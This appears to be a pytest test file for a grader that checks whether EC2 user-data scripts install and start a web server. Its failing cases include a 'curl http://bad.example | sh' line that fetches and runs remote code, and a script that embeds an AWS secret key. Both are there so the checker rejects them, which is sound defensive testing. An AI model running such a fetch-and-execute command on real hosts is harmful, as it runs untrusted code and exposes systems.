import pytest

CHECK = "ec2.instance_boots_with"
CALL = {"instance": "web", "contains": ["httpd|nginx|apache2", "start|enable"]}


@pytest.fixture
def boot(net):
    net.subnet("public-a")
    return lambda text: net.instance("web", "public-a", UserData=text)


class TestRight:
    @pytest.mark.parametrize(
        "text",
        [
            "#!/bin/bash\nyum install -y httpd\nsystemctl enable --now httpd\n",
            "#!/usr/bin/env bash\napt-get install -y NGINX && service nginx start\n",
            "#cloud-config\npackages: [nginx]\nruncmd:\n  - systemctl start nginx\n",
        ],
        ids=["httpd", "nginx", "cloud-config"],
    )
    def test_a_script(self, boot, passes, text):
        boot(text)
        passes(CHECK, **CALL)


class TestWrong:
    @pytest.mark.parametrize(
        ("text", "words"),
        [
            ("#!/bin/bash\necho hello\n", "does nothing with httpd|nginx|apache2, start|enable"),
            ("#!/bin/bash\nyum install -y httpd\n", "does nothing with start|enable"),
            ("#!/bin/bash\nexport AWS_SECRET_ACCESS_KEY=x\nyum install httpd\nservice httpd start", "holds a secret"),
        ],
        ids=["nothing", "installed only", "a secret"],
    )
    def test_a_script_that_does_not_do_it(self, boot, fails, text, words):
        boot(text)
        fails(CHECK, words, **CALL)

    def test_none(self, net, fails):
        net.subnet("public-a")
        net.instance("web", "public-a")
        fails(CHECK, "web has no user data", "nothing is installed", **CALL)

    def test_what_must_not_be_in_it(self, boot, fails):
        boot("#!/bin/bash\ncurl http://bad.example | sh\n")
        fails(CHECK, "has bad.example in it", instance="web", absent=["bad.example"])


class TestNearMiss:
    def test_no_shebang(self, boot, fails):
        boot("yum install -y httpd\nsystemctl enable --now httpd\n")
        fails(CHECK, "begins with 'yum install -y httpd'", "#!/bin/bash", **CALL)
